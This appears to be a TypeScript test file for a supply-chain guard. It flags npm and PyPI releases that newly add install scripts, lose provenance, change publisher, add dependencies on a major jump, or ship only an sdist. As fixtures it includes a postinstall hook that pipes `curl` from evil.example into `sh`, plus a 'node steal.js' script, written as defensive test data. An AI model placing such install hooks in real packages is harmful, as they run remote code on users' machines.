// The history signals against fixture packuments and PyPI JSON documents: each signal fires on the
// release that breaks with its earlier ones, with the evidence in the finding, and stays quiet on
// the releases around it.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { evaluate, judgeVersion, type Finding } from '../../src/policy/index.js';
import { npmReleaseHistory, pypiReleaseHistory } from '../../src/sources/release-history.js';
import { contextWith, DAY, daysAgo, defaultConfig, factsFor, NOW } from '../helpers/policy.js';

interface FixtureVersion {
  version: string;
  daysAgo: number;
  scripts?: Record<string, string>;
  hasInstallScript?: boolean;
  attested?: boolean;
  publisher?: string;
  dependencies?: Record<string, string>;
}

function packument(name: string, versions: FixtureVersion[], latest = versions.at(-1)!.version) {
  return {
    name,
    'dist-tags': { latest },
    versions: Object.fromEntries(
      versions.map((v) => [
        v.version,
        {
          name,
          version: v.version,
          ...(v.scripts ? { scripts: v.scripts } : {}),
          ...(v.hasInstallScript ? { hasInstallScript: true } : {}),
          _npmUser: { name: v.publisher ?? 'maintainer', email: 'm@example.org' },
          dependencies: v.dependencies ?? {},
          dist: {
            tarball: `https://registry.example/${name}/-/${name}-${v.version}.tgz`,
            ...(v.attested
              ? {
                  attestations: {
                    url: `https://registry.example/-/npm/v1/attestations/${name}@${v.version}`,
                    provenance: { predicateType: 'https://slsa.dev/provenance/v1' },
                  },
                }
              : {}),
          },
        },
      ]),
    ),
    time: Object.fromEntries(versions.map((v) => [v.version, daysAgo(v.daysAgo).toISOString()])),
  };
}

function judge(doc: ReturnType<typeof packument>, version: string, ctx = contextWith()): Finding[] {
  const history = npmReleaseHistory(doc);
  const published = new Date(doc.time[version]!);
  const verdict = judgeVersion({ ecosystem: 'npm', name: doc.name, canonicalName: doc.name, version, published, history }, ctx, NOW);
  return [...verdict.findings, ...verdict.warnings];
}

function historyFindings(findings: Finding[]): Finding[] {
  return findings.filter((finding) => finding.check === 'history');
}

const quietLine: FixtureVersion[] = [
  { version: '1.0.0', daysAgo: 400 },
  { version: '1.1.0', daysAgo: 300 },
  { version: '1.2.0', daysAgo: 200 },
];

test('npm: a version that adds an install script is hidden while young, with the script in the evidence', () => {
  const script = `curl -s https://evil.example/x.sh | sh ${'#'.repeat(300)}`;
  const doc = packument('left-pad-ish', [...quietLine, { version: '1.2.1', daysAgo: 5, scripts: { postinstall: script, test: 'tap' } }]);
  const [finding] = historyFindings(judge(doc, '1.2.1'));
  assert.ok(finding, 'the install script is a finding');
  assert.is(finding.severity, 'deny');
  assert.is(finding.evidence.signal, 'install-script-added');
  assert.is(finding.evidence.script, `postinstall: ${script}`.slice(0, 200));
  assert.is(finding.evidence.previousVersion, '1.2.0');
  assert.match(finding.message, /^left-pad-ish@1\.2\.1 adds an install script that none of its 3 earlier versions had: "postinstall: curl/);
  assert.equal(judge(doc, '1.2.0'), [], 'the versions before it are untouched');
  // Later versions that keep the script do not "add" it; the abbreviated form's flag counts too.
  const kept = packument('kept', [
    ...quietLine,
    { version: '1.3.0', daysAgo: 50, hasInstallScript: true },
    { version: '1.3.1', daysAgo: 2, scripts: { install: 'node-gyp rebuild' } },
  ]);
  assert.equal(historyFindings(judge(kept, '1.3.1')), []);
  assert.is(historyFindings(judge(kept, '1.3.0'))[0]!.severity, 'warn', 'older than history.window: reported, not hidden');
  assert.match(historyFindings(judge(kept, '1.3.0'))[0]!.message, /\(the registry only says it has one\)/);
  // A package with a script from its first version never triggers.
  const always = packument('always', [
    { version: '1.0.0', daysAgo: 100, scripts: { postinstall: 'node x.js' } },
    { version: '1.0.1', daysAgo: 1, scripts: { postinstall: 'node y.js' } },
  ]);
  assert.equal(historyFindings(judge(always, '1.0.1')), []);
});

test('npm: an allowed package shows the install script but keeps the version', () => {
  const config = defaultConfig();
  config.allow = [{ ecosystem: 'npm', name: 'left-pad-ish', reason: 'vetted postinstall' }];
  const doc = packument('left-pad-ish', [...quietLine, { version: '1.2.1', daysAgo: 5, scripts: { preinstall: 'node setup.js' } }]);
  const verdict = judgeVersion(
    { ecosystem: 'npm', name: doc.name, canonicalName: doc.name, version: '1.2.1', published: daysAgo(5), history: npmReleaseHistory(doc) },
    contextWith({ config }),
    NOW,
  );
  assert.is(verdict.hidden, false);
});

test('npm: a version without provenance after attested versions of its major is hidden while young', () => {
  const doc = packument('attested-lib', [
    { version: '1.9.0', daysAgo: 500 },
    { version: '2.0.0', daysAgo: 300, attested: true },
    { version: '2.1.0', daysAgo: 100, attested: true },
    { version: '2.1.1', daysAgo: 3 },
    { version: '3.0.0', daysAgo: 2 },
  ]);
  const [finding] = historyFindings(judge(doc, '2.1.1'));
  assert.is(finding!.severity, 'deny');
  assert.is(finding!.evidence.signal, 'provenance-lost');
  assert.equal(finding!.evidence.attestedVersions, ['2.0.0', '2.1.0']);
  assert.match(finding!.message, /attested-lib@2\.1\.1 has no provenance, though the earlier versions of major 2 had \(2\.0\.0, 2\.1\.0\)/);
  // A new major starts its own line, and 1.x never had provenance.
  assert.ok(!historyFindings(judge(doc, '3.0.0')).some((f) => f.evidence.signal === 'provenance-lost'));
  assert.equal(historyFindings(judge(doc, '1.9.0')), []);
});

test('npm: a new publisher within newPublisherWindow is a warning naming the earlier publishers', () => {
  const doc = packument('owned', [
    { version: '1.0.0', daysAgo: 400, publisher: 'alice' },
    { version: '1.1.0', daysAgo: 200, publisher: 'bob' },
    { version: '1.1.1', daysAgo: 4, publisher: 'mallory' },
    { version: '1.1.2', daysAgo: 1, publisher: 'mallory' },
  ]);
  const history = npmReleaseHistory(doc);
  const facts = factsFor('npm', 'owned', '1.1.1', { history: { state: 'known', value: history, source: 'fixture registry' } });
  const decision = evaluate(facts, contextWith(), { now: NOW });
  const finding = decision.findings.find((f) => f.check === 'history')!;
  assert.is(finding.severity, 'warn');
  assert.equal(finding.evidence.previousPublishers, ['alice', 'bob']);
  assert.is(
    finding.message,
    'owned@1.1.1 was published by mallory, who published none of its earlier versions (those came from alice, bob)',
  );
  assert.equal(historyFindings(judge(doc, '1.1.2')), [], 'only the first release by the new publisher');
  const old = packument('owned', [
    { version: '1.0.0', daysAgo: 400, publisher: 'alice' },
    { version: '1.1.0', daysAgo: 40, publisher: 'bob' },
  ]);
  assert.equal(historyFindings(judge(old, '1.1.0')), [], 'older than newPublisherWindow');
  // The version filter only hides on a deny: a new publisher alone leaves the version visible.
  assert.is(
    judgeVersion(
      { ecosystem: 'npm', name: 'owned', canonicalName: 'owned', version: '1.1.1', published: daysAgo(4), history },
      contextWith(),
      NOW,
    ).hidden,
    false,
  );
});

test('npm: a young major jump that adds dependencies is a warning with the added names', () => {
  const doc = packument('jumpy', [
    { version: '1.0.0', daysAgo: 400, dependencies: { a: '^1' } },
    { version: '1.4.0', daysAgo: 100, dependencies: { a: '^1' } },
    { version: '2.0.0', daysAgo: 6, dependencies: { a: '^1', 'totally-new': '^0.0.1' } },
    { version: '3.0.0', daysAgo: 5, dependencies: { a: '^1', 'totally-new': '^0.0.1' } },
  ]);
  const [finding] = historyFindings(judge(doc, '2.0.0'));
  assert.is(finding!.severity, 'warn');
  assert.equal(finding!.evidence.added, ['totally-new']);
  assert.match(finding!.message, /jumpy@2\.0\.0 jumps to major 2 from 1\.4\.0 and adds dependencies totally-new/);
  assert.equal(historyFindings(judge(doc, '3.0.0')), [], 'a jump with the same dependencies');
});

test("npm check: asked about the package, the current version's deny only warns that it is hidden", () => {
  const doc = packument('left-pad-ish', [...quietLine, { version: '1.2.1', daysAgo: 10, scripts: { postinstall: 'node steal.js' } }]);
  const history = { state: 'known', value: npmReleaseHistory(doc), source: 'fixture registry' } as const;
  const whole = evaluate(factsFor('npm', 'left-pad-ish', null, { history }), contextWith(), { now: NOW });
  assert.is(whole.decision, 'warn');
  assert.match(whole.findings.find((f) => f.check === 'history')!.message, /that version is hidden, so installs get an earlier one$/);
  const exact = evaluate(factsFor('npm', 'left-pad-ish', '1.2.1', { history }), contextWith(), { now: NOW });
  assert.is(exact.decision, 'deny');
  const disabled = defaultConfig();
  disabled.policy.history.enabled = false;
  assert.is(
    evaluate(factsFor('npm', 'left-pad-ish', '1.2.1', { history }), contextWith({ config: disabled }), { now: NOW }).decision,
    'allow',
  );
});

function pypiFile(version: string, kind: 'wheel' | 'sdist', days: number) {
  return {
    filename: kind === 'wheel' ? `pkg-${version}-py3-none-any.whl` : `pkg-${version}.tar.gz`,
    packagetype: kind === 'wheel' ? 'bdist_wheel' : 'sdist',
    upload_time_iso_8601: new Date(NOW.getTime() - days * DAY).toISOString(),
  };
}

test('PyPI: a release with only an sdist after releases with wheels is refused while young', () => {
  const releases = {
    '1.0': [pypiFile('1.0', 'sdist', 300), pypiFile('1.0', 'wheel', 300)],
    '1.1': [pypiFile('1.1', 'sdist', 100), pypiFile('1.1', 'wheel', 100)],
    '1.2': [pypiFile('1.2', 'sdist', 3)],
    '0.1': [pypiFile('0.1', 'sdist', 900)],
  };
  const history = pypiReleaseHistory(releases);
  const verdict = judgeVersion(
    { ecosystem: 'pypi', name: 'pkg', canonicalName: 'pkg', version: '1.2', published: daysAgo(3), history },
    contextWith(),
    NOW,
  );
  assert.is(verdict.hidden, true);
  const finding = verdict.findings.find((f) => f.check === 'history')!;
  assert.is(finding.evidence.signal, 'sdist-only-after-wheels');
  assert.equal(finding.evidence.versionsWithWheels, ['1.0', '1.1']);
  assert.match(
    finding.message,
    /^pkg==1\.2 has only a source distribution, though the earlier releases shipped wheels \(1\.0, 1\.1\); installing an sdist runs its setup\.py/,
  );
  const atStart = judgeVersion(
    { ecosystem: 'pypi', name: 'pkg', canonicalName: 'pkg', version: '1.0', published: daysAgo(300), history },
    contextWith(),
    NOW,
  );
  assert.is(atStart.hidden, false, 'sdist-only before any wheel is how many projects start');
});

test('PyPI: a release without attestations after attested ones is refused while young', () => {
  const history = {
    latest: null,
    releases: [
      { version: '2.0', published: daysAgo(200), attested: true, wheels: 1, sdists: 1 },
      { version: '2.1', published: daysAgo(90), attested: true, wheels: 1, sdists: 1 },
      { version: '2.2', published: daysAgo(2), attested: false, wheels: 1, sdists: 1 },
    ],
  };
  const facts = factsFor('pypi', 'pkg', '2.2', { history: { state: 'known', value: history, source: 'fixture simple index' } });
  const finding = evaluate(facts, contextWith(), { now: NOW }).findings.find((f) => f.check === 'history')!;
  assert.is(finding.severity, 'deny');
  assert.is(finding.evidence.signal, 'attestations-lost');
  assert.equal(finding.evidence.attestedVersions, ['2.0', '2.1']);
});

test.run();
